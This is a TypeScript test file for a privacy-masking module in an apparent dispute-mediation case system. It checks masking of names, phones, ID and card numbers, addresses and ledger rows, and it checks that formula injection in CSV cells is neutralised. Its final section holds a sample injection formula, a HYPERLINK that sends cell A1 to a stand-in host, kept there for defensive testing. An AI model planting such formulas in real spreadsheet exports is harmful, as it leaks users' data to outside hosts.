// The masking module (domain/privacy.ts): examples, a corpus of 200+ realistic texts, the case
// and event masks, typical-case anonymisation, and formula injection in CSV cells.
import { describe, expect, it } from 'vitest';
import {
  type CaseCommand,
  ReportCaseInput,
  anonymise,
  applyCommand,
  caseMaskOptions,
  maskAddress,
  maskCaseTexts,
  maskEventTexts,
  maskFreeText,
  maskIdNumber,
  maskName,
  maskPhone,
  maskText,
  neutraliseCell,
  planReport,
  toCsv,
  ledgerRow,
} from '../../functions/src/domain';
import { CORPUS } from '../fixtures/privacy-corpus';
import { actorOf, draft, villageStaff } from '../helpers/cases';

/** Digits (and X) of a text, full-width folded: how a leak is recognised in any spelling. */
// biome-ignore lint/suspicious/noExportsInTest: the property tests reuse the same leak detector
export const digitsOf = (s: string) =>
  s
    .normalize('NFKC')
    .replace(/[^0-9Xx]/g, '')
    .toUpperCase();

describe('masking personal data', () => {
  it('masks names, phones and ID numbers', () => {
    expect(maskName('张三')).toBe('张*');
    expect(maskName('欧阳娜娜')).toBe('欧***');
    expect(maskPhone('13812345678')).toBe('138****5678');
    expect(maskIdNumber('62112619800101123X')).toBe('6211**********123X');
    expect(maskPhone(null)).toBeNull();
    expect(maskAddress('岷阳镇城郊村3社12号')).toBe('岷阳镇城郊村***');
    expect(maskAddress('城郊村')).toBe('城郊村');
  });
  it('masks numbers inside free text', () => {
    expect(maskFreeText('联系13812345678，身份证62112619800101123X')).toBe('联系138****5678，身份证6211**********123X');
  });

  it.each([
    ['电话138-1234-5678', '电话138****5678'],
    ['电话139 8765 4321', '电话139****4321'],
    ['电话138.1234.5678', '电话138****5678'],
    ['电话+86 138 1234 5678', '电话138****5678'],
    ['电话+8613812345678', '电话138****5678'],
    ['电话0086-13812345678', '电话138****5678'],
    ['电话(+86)13812345678', '电话138****5678'],
    ['电话（＋86）138－1234－5678', '电话138****5678'],
    ['电话１３８１２３４５６７８', '电话138****5678'],
    ['张*13812345678', '张*138****5678'],
    ['座机0932-1234567', '座机0932-*****67'],
    ['座机(0932)1234567', '座机0932-*****67'],
    ['身份证621126 19800101 123X', '身份证6211**********123X'],
    ['身份证621126-19800101-123x', '身份证6211**********123X'],
    ['身份证６２１１２６１９８００１０１１２３Ｘ', '身份证6211**********123X'],
    ['旧身份证621126800101123', '旧身份证6211*******1123'],
    ['卡号6222 0213 8123 4567 890', '卡号6222********7890'],
    ['卡号6228480329012345', '卡号6228********2345'],
  ])('%s → %s', (input, out) => {
    expect(maskText(input)).toBe(out);
    expect(maskText(out)).toBe(out);
  });

  it('keeps dates, times, amounts, case numbers and region codes', () => {
    const keep =
      '于2026-11-28 14:30在621126100001村（网格621126100001001）调解，赔偿12000元，案号（2026）甘1126民初123号，日期20261128，案件621126-abcDEF123456，拨打12345';
    expect(maskText(keep)).toBe(keep);
    expect(maskText('2026-11-28 13812345678 2026-11-29')).toBe('2026-11-28 138****5678 2026-11-29');
    // A 15-digit grid code of a 乡 (2xx) whose digits happen to hold a date: kept by its word or by `keep`.
    expect(maskText('网格编码621126201201011')).toBe('网格编码621126201201011');
    expect(maskText('621126201201011', { keep: ['621126201201011'] })).toBe('621126201201011');
  });

  it("masks this case's own parties: names, addresses, and numbers of any shape", () => {
    const parties = [
      { name: '胡玉梅', phone: '12012345678', idNumber: '621126198013451234', address: '梅川镇茶固村五社28号' },
      { name: '马福祥', phone: null, idNumber: null, address: null },
    ];
    const out = maskText('胡玉梅（120-1234-5678，证号621126 19801345 1234）住梅川镇茶固村五社28号，与马福祥在五社28号门前争执', {
      parties,
    });
    expect(out).toBe('胡**（120****5678，证号6211**********1234）住梅川镇茶固村***，与马**在***门前争执');
    expect(maskText(out, { parties })).toBe(out);
  });
});

describe('a corpus of realistic texts', () => {
  it('has at least 200 entries, every one with something to mask or to keep', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(200);
    for (const e of CORPUS) expect(e.names.length + e.digits.length + e.kept.length).toBeGreaterThan(0);
  });
  it.each(CORPUS.map((e, i) => [i, e] as const))('entry %i: personal data masked, the rest kept, idempotent', (_i, e) => {
    const out = maskText(e.text, { parties: e.parties, addresses: [e.address] });
    for (const n of e.names) expect(out, e.text).not.toContain(n);
    for (const d of e.digits) expect(digitsOf(out), `${e.text} → ${out}`).not.toContain(d);
    for (const a of e.addressDetails) expect(out).not.toContain(a);
    for (const k of e.kept) expect(out, `${e.text} → ${out}`).toContain(k);
    expect(maskText(out, { parties: e.parties, addresses: [e.address] })).toBe(out);
    if (e.names.length === 0 && e.digits.length === 0 && e.addressDetails.length === 0) expect(out).toBe(e.text);
  });
  it('without the parties, still masks every number of the corpus', () => {
    for (const e of CORPUS) {
      const out = maskText(e.text);
      for (const d of e.digits) expect(digitsOf(out), `${e.text} → ${out}`).not.toContain(d);
    }
  });
});

describe('cases and events are stored masked', () => {
  const parties = [
    { role: 'applicant' as const, name: '胡建国', phone: '13812345678', idNumber: '62112619800101123X', address: '岷阳镇城郊村3社12号' },
    { role: 'respondent' as const, name: '李秀英', phone: '13987654321', idNumber: null, address: null },
  ];
  const input = ReportCaseInput.parse(
    draft({
      title: '胡建国与李秀英 138-1234-5678',
      description: '胡建国（+86 139 8765 4321）住岷阳镇城郊村3社12号，身份证621126 19800101 123X',
      parties,
    }),
  );
  const resident = { uid: 'res-1', role: 'resident' as const, unitId: '621126', name: '胡建国' };
  const plan = planReport(input, 'case-1', resident, { r: 'resident', u: '621126', c: '621126' }, new Date('2026-03-02T02:00:00Z'));

  it('planReport: the case masked, the originals with the parties, a resident reporter masked', () => {
    expect(plan.caseDoc.title).toBe('胡**与李** 138****5678');
    expect(plan.caseDoc.description).toBe('胡**（139****4321）住岷阳镇城郊村***，身份证6211**********123X');
    expect(plan.caseDoc.reporter.name).toBe('胡**');
    expect(plan.event.actor.name).toBe('胡**');
    expect(plan.privateDoc.title).toBe(input.title);
    expect(plan.privateDoc.description).toBe(input.description);
  });

  it('maskCaseTexts / maskEventTexts: notes, summaries, replies', () => {
    const c = { ...plan.caseDoc, state: 'accepted' as const, tier: 'village' as const, unitId: '621126100001' };
    const opts = caseMaskOptions(plan.privateDoc, c);
    const run = (cmd: CaseCommand) => {
      const t = applyCommand(c, cmd, actorOf(villageStaff), villageStaff, new Date('2026-03-03T02:00:00Z'));
      return { next: maskCaseTexts(t.next, opts), event: maskEventTexts(t.event, opts) };
    };
    const med = run({ action: 'record_mediation', summary: '胡建国同意，李秀英电话139 8765 4321', agreementReached: true });
    expect(med.event.action === 'record_mediation' && med.event.data.summary).toBe('胡**同意，李**电话139****4321');
    const res = run({ action: 'resolve', outcome: 'mediated_agreement', note: '胡建国收到李秀英转账，卡号6222 0213 8123 4567 890' });
    expect(res.next.resolutionNote).toBe('胡**收到李**转账，卡号6222********7890');
    expect(res.event.reason).toBe(res.next.resolutionNote);
    const json = JSON.stringify([med, res]);
    for (const s of ['胡建国', '李秀英']) expect(json).not.toContain(s);
    for (const d of ['13812345678', '13987654321', '62112619800101123X']) expect(digitsOf(json)).not.toContain(d);
  });
});

describe('ledger rows', () => {
  const parties = [{ role: 'applicant' as const, name: '胡建国', phone: '13812345678', idNumber: null, address: null }];
  const plan = planReport(
    ReportCaseInput.parse(draft({ title: '胡建国 138 1234 5678', parties })),
    'case-1',
    actorOf(villageStaff),
    villageStaff,
    new Date('2026-03-02T02:00:00Z'),
  );
  it('a reader who does not handle the case: masked, even for a case stored before masking used the parties', () => {
    const older = { ...plan.caseDoc, title: '胡建国 138 1234 5678', resolutionNote: '胡建国已签字' };
    const row = ledgerRow(1, older, null, {}, plan.privateDoc);
    expect(row[6]).toBe('胡** 138****5678');
    expect(row[18]).toBe('胡**已签字');
    expect(row[10]).toBe('胡**');
  });
  it('a handler: the title as written, the parties in full', () => {
    const row = ledgerRow(1, plan.caseDoc, plan.privateDoc, {}, plan.privateDoc);
    expect(row[6]).toBe('胡建国 138 1234 5678');
    expect(row[10]).toBe('胡建国');
    expect(row[11]).toBe('13812345678');
  });
});

describe('typical cases (典型案例)', () => {
  it('replace names (also masked and 某 forms) with 当事人甲/乙, addresses with 某地, numbers masked', () => {
    const out = anonymise(
      '张建国与李秀英（138-1234-5678）住岷阳镇城郊村3社12号；张**与李**和解，张某满意',
      ['张建国', '李秀英'],
      ['岷阳镇城郊村3社12号'],
      [{ phone: '13812345678' }],
    );
    expect(out).toBe('当事人甲与当事人乙（138****5678）住某地；当事人甲与当事人乙和解，当事人甲满意');
  });
});

describe('formula injection (CSV/XLSX cells)', () => {
  it.each(['=HYPERLINK("http://x.invalid/?"&A1,"详情")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])('neutralises %j', (v) => {
    expect(neutraliseCell(v)).toBe(`'${v}`);
  });
  it('leaves other text and numbers alone', () => {
    for (const v of ['邻里纠纷', '2026-11-28', '138****5678', "'quoted", ' =1']) expect(neutraliseCell(v)).toBe(v);
    expect(neutraliseCell(-5)).toBe(-5);
  });
  it('toCsv writes the formula as text', () => {
    const csv = toCsv([['事项名称'], ['=HYPERLINK("http://x.invalid/?"&A1,"详情")']]);
    expect(csv).toBe('\uFEFF事项名称\r\n"\'=HYPERLINK(""http://x.invalid/?""&A1,""详情"")"\r\n');
  });
});
